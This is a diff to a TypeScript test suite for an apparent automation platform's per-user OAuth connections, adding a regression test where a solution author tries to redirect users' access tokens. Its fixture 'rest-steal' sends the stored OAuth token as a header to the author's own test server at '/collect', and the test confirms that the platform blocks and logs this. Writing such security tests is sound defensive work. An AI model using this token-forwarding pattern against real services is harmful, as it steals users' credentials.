@@ -66,8 +66,8 @@ parameters:
     },
   });
   expect(stored.status, stored.text).toBe(201);
-  const execute = (user: string) =>
-    platform.api('POST', `/api/v1/solutions/${solution}/functions/rest-get-me/execute`, {
+  const execute = (user: string, fn = 'rest-get-me') =>
+    platform.api('POST', `/api/v1/solutions/${solution}/functions/${fn}/execute`, {
       token: tokens[user],
       body: {},
     });
@@ -228,12 +228,90 @@ describe('per-user connections', () => {
     expect((await view.submit(asked.url, asked.html)).status).toBe(400);
   });
 
-  it('connections survive a new client secret, not another client; removing the credential removes them', async () => {
-    const { platform, auth, tokens, execute, connect } = await setUp();
+  it("an author cannot send users' tokens elsewhere by storing the credential again (issue 36 row 2)", async () => {
+    const { platform, tokens, execute, connect, remote } = await setUp();
     await connect('ada', 'ada-account');
-    const put = (body: Record<string, unknown>) =>
+    expect((await execute('ada')).body).toMatchObject({ output: { account: 'ada-account' } });
+    // The author's own server, recording whatever comes.
+    const theirs = await testServer((_req, res) => json(res, 200, { stolen: true }));
+    const listed = async () =>
+      (
+        await platform.api('GET', '/api/v1/solutions/s/credentials', { token: tokens.alice })
+      ).body.credentials.find((c: { key: string }) => c.key === 'graph');
+    const before = await listed();
+    // What the listing shows is enough to copy the client: the same id and endpoints, no secret.
+    const { hasClientSecret: _, origins: __, ...client } = before.fields;
+    const restore = (body: Record<string, unknown>) =>
       platform.api('PUT', '/api/v1/solutions/s/credentials/graph', {
         token: tokens.alice,
+        body: { kind: 'oauth', ...client, ...body },
+      });
+    // A function of the author's that sends the credential to their server.
+    const steal = `provider: DATA_PROVIDER_REST
+method: GET
+url: ${theirs.url}/collect
+parameters:
+  accessToken: { location: header, type: example.oauth, value: graph }
+`;
+    const republished = await platform.api('PUT', '/api/v1/solutions/s', {
+      token: tokens.alice,
+      body: {
+        files: {
+          'functions/rest-get-me.platform': `provider: DATA_PROVIDER_REST
+method: GET
+url: ${remote.url}/me
+parameters:
+  accessToken: { location: header, type: example.oauth, value: graph }
+`,
+          'functions/rest-steal.platform': steal,
+        },
+      },
+    });
+    expect(republished.status).toBe(201);
+
+    // Their server as the origin, given; or taken from the published functions (none given).
+    for (const body of [{ origins: [theirs.url] }, {}]) {
+      const refused = await restore(body);
+      expect(refused.status, refused.text).toBe(409);
+      expect(refused.body.code).toBe('CREDENTIAL_IN_USE');
+      expect(refused.body.message).toContain('only an admin may change');
+      expect(refused.body.message).toContain('every connection is then dropped');
+    }
+    // Its origins as they are, the client secret removed or another given: the same refusal. The
+    // same one again is no change.
+    const { origins } = before.fields;
+    expect((await restore({ origins })).body.code).toBe('CREDENTIAL_IN_USE');
+    expect((await restore({ origins, clientSecret: 'another-secret' })).body.code).toBe('CREDENTIAL_IN_USE');
+    expect((await restore({ origins, clientSecret: CLIENT_SECRET })).status).toBe(200);
+    // Nothing was written by the refusals: the origins and client are as they were.
+    const after = await listed();
+    expect(after.fields).toEqual(before.fields);
+
+    // Ada's token goes nowhere but the credential's own origin.
+    const stolen = await execute('ada', 'rest-steal');
+    expect(stolen.status).toBe(403);
+    expect(stolen.body.code).toBe('CREDENTIAL_ORIGIN');
+    expect((await execute('ada')).body).toMatchObject({ output: { account: 'ada-account' } });
+    expect(theirs.requests.filter((r) => r.headers.authorization !== undefined)).toEqual([]);
+    expect(theirs.requests).toHaveLength(0);
+    // The refusals are in the solution's audit log.
+    const log = await platform.api('GET', '/api/v1/solutions/s/executions?limit=20', {
+      token: platform.adminToken,
+    });
+    expect(
+      log.body.entries.filter(
+        (e: { action: string; outcome: string }) =>
+          e.action === 'credential.put' && e.outcome === 'CREDENTIAL_IN_USE',
+      ),
+    ).toHaveLength(4);
+  });
+
+  it("an admin's new client secret keeps connections, an admin's other change drops them; removing the credential removes them", async () => {
+    const { platform, auth, tokens, execute, connect } = await setUp();
+    await connect('ada', 'ada-account');
+    const put = (token: string, body: Record<string, unknown>) =>
+      platform.api('PUT', '/api/v1/solutions/s/credentials/graph', {
+        token,
         body: {
           kind: 'oauth',
           tokenEndpoint: auth.tokenEndpoint,
@@ -241,22 +319,44 @@ describe('per-user connections', () => {
           issuer: auth.issuer,
           scopes: ['openid', 'api', 'offline_access'],
           grantType: 'authorization_code',
+          revocationEndpoint: `${auth.issuer}/token/revocation`,
           ...body,
         },
       });
-    // The same client, its secret given again (rotated at the provider, say).
-    expect((await put({ clientId: CLIENT_ID, clientSecret: CLIENT_SECRET })).status).toBe(200);
+    const admin = platform.adminToken;
+    // The author gives the same client and secret again: nothing changes.
+    expect((await put(tokens.alice!, { clientId: CLIENT_ID, clientSecret: CLIENT_SECRET })).status).toBe(200);
     expect((await execute('ada')).body).toMatchObject({ output: { account: 'ada-account' } });
-    // Another client: what users connected to is gone.
-    expect((await put({ clientId: PUBLIC_CLIENT_ID })).status).toBe(200);
-    expect((await execute('ada')).body).toMatchObject({ code: 'CONNECTION_REQUIRED' });
+    // Another client: an author is refused, and the connection still works.
+    expect((await put(tokens.alice!, { clientId: PUBLIC_CLIENT_ID })).status).toBe(409);
+    expect((await execute('ada')).body).toMatchObject({ output: { account: 'ada-account' } });
+    // An admin rotates the client secret (at the provider, say), and back: connections stay.
+    const rotated = await put(admin, { clientId: CLIENT_ID, clientSecret: 'rotated-secret-1' });
+    expect(rotated.status).toBe(200);
+    expect(rotated.body.connectionsDropped).toBeUndefined();
+    expect((await execute('ada')).body).toMatchObject({ output: { account: 'ada-account' } });
+    expect((await put(admin, { clientId: CLIENT_ID, clientSecret: CLIENT_SECRET })).status).toBe(200);
+    expect((await execute('ada')).body).toMatchObject({ output: { account: 'ada-account' } });
+    // An admin's other change (here: no revocation endpoint any more) drops them.
+    const changed = await put(admin, {
+      clientId: CLIENT_ID,
+      clientSecret: CLIENT_SECRET,
+      revocationEndpoint: undefined,
+    });
+    expect(changed.status).toBe(200);
+    expect(changed.body.connectionsDropped).toBe(1);
+    const dropped = await execute('ada');
+    expect(dropped.status).toBe(424);
+    expect(dropped.body).toMatchObject({ code: 'CONNECTION_REQUIRED' });
     expect(
       (await platform.api('GET', '/api/v1/solutions/s/connections', { token: tokens.alice })).body,
     ).toEqual({
       connections: [],
     });
+    // With no one connected, the author changes the client as before.
+    expect((await put(tokens.alice!, { clientId: PUBLIC_CLIENT_ID })).status).toBe(200);
     // Back to the confidential client; connect again, then remove the credential.
-    await put({ clientId: CLIENT_ID, clientSecret: CLIENT_SECRET });
+    await put(tokens.alice!, { clientId: CLIENT_ID, clientSecret: CLIENT_SECRET });
     await connect('ada', 'ada-account');
     expect(
       (await platform.api('DELETE', '/api/v1/solutions/s/credentials/graph', { token: tokens.alice })).status,
